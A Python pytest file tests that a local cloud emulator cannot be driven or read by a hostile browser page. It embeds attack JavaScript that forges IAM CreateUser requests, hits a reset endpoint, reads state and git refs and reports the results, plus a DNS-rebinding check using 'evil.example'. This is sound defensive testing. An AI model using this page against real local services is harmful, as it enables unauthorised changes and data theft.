"""A hostile page in a real browser cannot drive or read a local cloud."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import boto3
import pytest

from console.local import local_cloud

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.browser.conftest import Site

ACCOUNT, REGION = "111111111111", "eu-west-1"
CREDENTIAL = (
    f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={ACCOUNT}%2F20260101%2F{REGION}%2Fiam"
    "%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=60&X-Amz-SignedHeaders=host"
    f"&X-Amz-Signature={'0' * 64}"
)
PAGE = """
<!doctype html>
<title>A page that a developer visits</title>
<iframe name="sink"></iframe>
<script>
const targets = TARGETS, credential = CREDENTIAL, readable = [];
const call = {Action: "CreateUser", Version: "2010-05-08"};

function form(url, user) {
  return new Promise(done => {
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: url, target: "sink"});
    for (const [name, value] of Object.entries({...call, UserName: user})) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      form.append(input);
    }
    document.body.append(form);
    document.querySelector("iframe").onload = done;
    form.submit();
  });
}

async function attack(target) {
  const url = `${target}/?${credential}`;
  await form(url, "form");
  const body = new URLSearchParams({...call, UserName: "fetch"}).toString();
  const headers = {"Content-Type": "application/x-www-form-urlencoded"};
  await fetch(url, {method: "POST", mode: "no-cors", headers, body}).catch(() => {});
  navigator.sendBeacon(url, new URLSearchParams({...call, UserName: "beacon"}));
  await fetch(`${target}/moto-api/reset`, {method: "POST", mode: "no-cors"}).catch(() => {});
  for (const path of ["/moto-api/data.json", "/git/info/refs?service=git-upload-pack"]) {
    await fetch(target + path).then(async answer => {
      readable.push([target, path, await answer.text()]);
    }).catch(() => {});
  }
}

(async () => {
  for (const target of targets) await attack(target);
  await fetch("/report", {method: "POST", body: JSON.stringify(readable)});
})();
</script>
"""


@pytest.fixture
def running(tmp_path: Path) -> Iterator[local_cloud.LocalCloud]:
    """A local cloud in a separate process, with one user that must not be deleted."""
    process, running = local_cloud.start(tmp_path / "state", port=0, gateway_port=0, speed=1)
    _iam(running).create_user(UserName="kept")
    yield running
    process.terminate()
    process.wait()


def _iam(running: local_cloud.LocalCloud) -> Any:
    variables = running.variables(ACCOUNT, REGION)
    return boto3.client(
        "iam",
        region_name=REGION,
        endpoint_url=running.endpoint,
        aws_access_key_id=variables["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=variables["AWS_SECRET_ACCESS_KEY"],
    )


def test_a_page_can_neither_drive_nor_read_the_local_cloud(
    running: local_cloud.LocalCloud, site: Site, visit: Callable[[Site], Any]
) -> None:
    """The same attacks on the page's own origin prove that the browser sends them."""
    targets = [running.endpoint, running.gateway, site.url]
    site.page = PAGE.replace("TARGETS", json.dumps(targets)).replace(
        "CREDENTIAL", json.dumps(CREDENTIAL)
    )
    readable = visit(site)
    users = {
        name
        for method, _, body in site.requests
        if method == "POST"
        for name in ("form", "fetch", "beacon")
        if f"UserName={name}" in body
    }
    assert users == {"form", "fetch", "beacon"}
    assert ("POST", "/moto-api/reset", "") in site.requests
    assert {(target, text) for target, _, text in readable} == {(site.url, "readable")}
    assert [each["UserName"] for each in _iam(running).list_users()["Users"]] == ["kept"]


@pytest.mark.parametrize("port", ["endpoint", "gateway"])
def test_a_page_whose_name_is_bound_to_loopback_reads_a_refusal(
    running: local_cloud.LocalCloud, read: Callable[[str, str], str], port: str
) -> None:
    """DNS rebinding: the page's own origin, so only the `Host` header reveals it."""
    number = getattr(running, port).rsplit(":", 1)[1]
    shown = read(f"http://evil.example:{number}/moto-api/data.json", "evil.example")
    assert f"localcloud: Host: found evil.example:{number}" in shown
